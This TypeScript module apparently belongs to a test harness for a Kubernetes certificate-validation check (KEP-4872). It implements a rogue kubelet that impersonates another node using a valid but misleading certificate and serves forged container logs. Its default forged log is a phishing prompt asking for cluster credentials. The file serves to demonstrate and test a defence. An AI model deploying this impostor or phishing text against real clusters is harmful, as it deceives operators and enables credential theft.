// `rogue-node`: node-2's owner, holding a cluster-signed serving certificate that is honestly node-2's (CN
// system:node:node-2) but lists node-1's address too, answers where the apiserver dials node-1. With
// `--kubelet-certificate-authority` alone the apiserver checks the chain and the address, both of which pass,
// so the user's `kubectl logs` prints what the rogue node wrote; KEP-4872's check (KubeletCertCNValidation)
// asks whose certificate it is, and refuses it.
import type { Logger } from 'pino';
import { startRogueKubelet, type RogueKubelet, type RogueStrategy } from './rogue-kubelet.ts';

/** The rogue node's settings. */
export interface RogueNodeOptions {
  /** Where the apiserver dials the victim node (its advertised address and kubelet port). */
  listen: { host: string; port: number };
  /** The rogue node's own cluster-signed serving certificate (PEM chain) and key. */
  tls: { cert: string; key: string };
  /** The log text returned for any container's logs. */
  forgedLog?: string;
  logger?: Logger;
}

/** The default forged log: what a user would act on (a credential prompt is KEP-4872's own example). */
export const DEFAULT_FORGED_LOG = 'FATAL: session expired; re-enter your cluster credentials at https://login.example/\n';

/** Answers `/containerLogs/…` with the forged text, and every other path with Go's mux 404. */
export function rogueNodeStrategy(forgedLog: string): RogueStrategy {
  return ({ target, upgrade }) => {
    if (!upgrade && target.startsWith('/containerLogs/')) return { status: 200, body: forgedLog };
    return { status: 404, body: '404 page not found\n' };
  };
}

/** Start the rogue node's kubelet impostor. */
export function startRogueNode(options: RogueNodeOptions): Promise<RogueKubelet> {
  return startRogueKubelet({ listen: options.listen, tls: options.tls, strategy: rogueNodeStrategy(options.forgedLog ?? DEFAULT_FORGED_LOG), logger: options.logger });
}
